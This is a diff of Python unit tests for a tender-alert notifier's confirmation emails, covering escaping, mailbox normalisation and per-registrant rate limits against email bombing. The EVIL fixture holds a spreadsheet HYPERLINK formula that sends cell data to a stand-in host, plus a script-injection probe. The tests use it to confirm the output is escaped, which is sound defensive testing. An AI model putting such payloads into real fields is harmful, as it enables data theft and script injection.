@@ -16,6 +16,7 @@ import pytest
 
 from contracts import SupplierProfile
 from contracts.supplier import EmailConfirmation
+from services.notifier.domain.confirmation import mailbox
 from services.notifier.domain.pages import PAGE_LABELS
 from services.notifier.domain.rendering import LABELS
 from tests.unit.notifier.factories import NOW, profile
@@ -27,9 +28,11 @@ VICTIM = "victim@example.org"
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click") <script>alert(1)</script>'
 
 
-def bomb(supplier_id: str, address: str = VICTIM, *, at: object = REGISTERED, **kw: str) -> SupplierProfile:
+def bomb(
+    supplier_id: str, address: str = VICTIM, *, at: object = REGISTERED, by: str = AGENCY, **kw: str
+) -> SupplierProfile:
     base = profile(supplier_id, emails=[address], **kw)
-    entry = EmailConfirmation(registered_by=AGENCY, registered_at=at)
+    entry = EmailConfirmation(registered_by=by, registered_at=at)
     return base.model_copy(update={"email_confirmations": {address: entry}})
 
 
@@ -98,7 +101,8 @@ def test_the_subject_is_fixed_and_what_the_registrant_typed_stays_in_the_escaped
     assert "&lt;script&gt;" in str(html.get_content())
     assert "<script>" not in str(html.get_content())
     body = text(en)
-    assert "for " + EVIL + " only" in body  # the email says what confirming covers
+    # the email says what confirming covers, the name as data: quoted, its URL inert (the HTML part escapes it too)
+    assert "for “" + EVIL.replace("http://evil.example/", "http[:]//evil[.]example/") + "” only" in body
     assert "every 30 days" in body
 
 
@@ -113,6 +117,93 @@ def test_accepting_confirms_the_address_for_the_supplier_named_in_the_email_only
     assert second is not None
     assert first.alert_emails() == [VICTIM]
     assert second.alert_emails() == []
+
+
+@pytest.mark.parametrize(
+    ("address", "box"),
+    [
+        ("Bomb+7@Example.org", "bomb@example.org"),
+        ("bomb@example.org", "bomb@example.org"),
+        ("b.o.m.b+x@GoogleMail.com", "bomb@gmail.com"),
+        ("BOMB@gmail.com", "bomb@gmail.com"),
+        ("b.omb@example.org", "b.omb@example.org"),  # dots count outside the providers that ignore them
+        ("+only@example.org", "+only@example.org"),  # nothing left before the tag: kept as written
+        ("a+b+c@example.org", "a@example.org"),
+    ],
+)
+def test_a_mailbox_is_the_address_without_case_plus_tags_and_ignored_dots(address: str, box: str) -> None:
+    assert mailbox(address) == box
+
+
+def no_registrant_limits(rig: Rig, **more: object) -> None:
+    rig.settings = unit_settings(
+        notifier_confirmations_per_registrant_hour=0, notifier_confirmations_per_registrant_day=0, **more
+    )
+
+
+def test_fifty_plus_addresses_and_gmail_spellings_of_one_mailbox_get_one_email(rig: Rig) -> None:
+    no_registrant_limits(rig, notifier_confirmations_per_round=100)
+    seed(rig, *(bomb(f"plus-{i}", f"bomb+{i}@example.org") for i in range(50)))
+    seed(
+        rig,
+        *(bomb(f"dots-{i}", a) for i, a in enumerate(["j.doe@gmail.com", "JDoe+x@googlemail.com", "jd.oe@gmail.com"])),
+    )
+    n = rig.notifier()
+    n.confirmations.send_confirmations()
+    assert sorted(keys(rig)) == ["dots-0", "plus-0"]
+    assert metric(n, "notifier_confirmations_held_total") == 51
+
+
+def refused(n: object, limit: str) -> float:
+    return (
+        n.metrics.registry.get_sample_value(  # type: ignore[attr-defined, no-any-return]
+            "notifier_confirmations_refused_total", {"limit": limit}
+        )
+        or 0.0
+    )
+
+
+def test_a_registrant_gets_so_many_confirmation_emails_per_hour_and_the_excess_is_parked_not_sent(rig: Rig) -> None:
+    rig.settings = unit_settings(
+        notifier_confirmations_per_registrant_hour=3,
+        notifier_confirmations_per_registrant_day=5,
+        notifier_confirmations_per_round=100,
+    )
+    seed(rig, *(bomb(f"s{i}", f"s{i}@example.org") for i in range(4)))
+    seed(rig, bomb("other", "other@example.org", by="Another Agency"))  # another registrant: its own limits
+    n = rig.notifier()
+    n.confirmations.send_confirmations()
+    assert sorted(keys(rig)) == ["other", "s0", "s1", "s2"]
+    assert refused(n, "registrant_hour_limit") == 1
+    [letter] = rig.dead_letters()
+    assert letter.reason == "registrant_hour_limit"
+    assert letter.key is not None
+    assert letter.key.startswith("s3|confirmation|s3@example.org|")
+    assert AGENCY in letter.detail
+    assert "3/hour" in letter.detail
+    n.confirmations.send_confirmations()  # the refused one is never tried again, even after a restart
+    rig.profiles.put(rig.matcher.profiles["s3"])
+    rig.notifier(instance_id="n2").confirmations.send_confirmations()
+    assert len(rig.mail.sent) == 4
+
+    rig.now += timedelta(hours=1)  # a new hour; the day has room for two more of this registrant
+    seed(rig, *(bomb(f"t{i}", f"t{i}@example.org", at=rig.now) for i in range(3)))
+    rig.notifier().confirmations.send_confirmations()
+    assert sorted(keys(rig))[-3:] == ["s2", "t0", "t1"]
+    assert refused(n, "registrant_hour_limit") == 1
+    assert rig.dead_letters()[-1].reason == "registrant_day_limit"
+
+
+def test_confirmations_go_out_a_round_at_a_time_so_alerts_are_not_held_back(rig: Rig) -> None:
+    no_registrant_limits(rig, notifier_confirmations_per_round=4)
+    seed(rig, *(bomb(f"s{i}", f"s{i}@example.org") for i in range(10)))
+    n = rig.notifier()
+    assert n.confirmations.send_confirmations() == 4
+    assert metric(n, "notifier_confirmations_deferred_total") == 6
+    assert n.confirmations.send_confirmations() == 4
+    assert n.confirmations.send_confirmations() == 2
+    assert n.confirmations.send_confirmations() == 0
+    assert sorted(keys(rig)) == sorted(f"s{i}" for i in range(10))
 
 
 # -- GET /confirm checks what the POST would ----------------------------------------------------------------
@@ -172,8 +263,8 @@ def test_the_page_answers_json_on_request_and_says_when_the_address_is_confirmed
 @pytest.mark.parametrize(
     ("language", "intro"),
     [
-        ("zh-Hans", "宁波医疗有限公司 在 tenderbridge 上登记了此邮箱（a@example.org），用于接收本公司的招标提醒。"),
-        ("en", "Ningbo Medical Co. has registered this address (a@example.org) on tenderbridge to receive its tender"),
+        ("zh-Hans", "“宁波医疗有限公司” 在 tenderbridge 上登记了此邮箱（a@example.org），用于接收本公司的招标提醒。"),
+        ("en", "“Ningbo Medical Co.” has registered this address (a@example.org) on tenderbridge to receive its"),
     ],
 )
 def test_a_supplier_that_registered_its_own_address_is_named_once(language: str, intro: str) -> None:
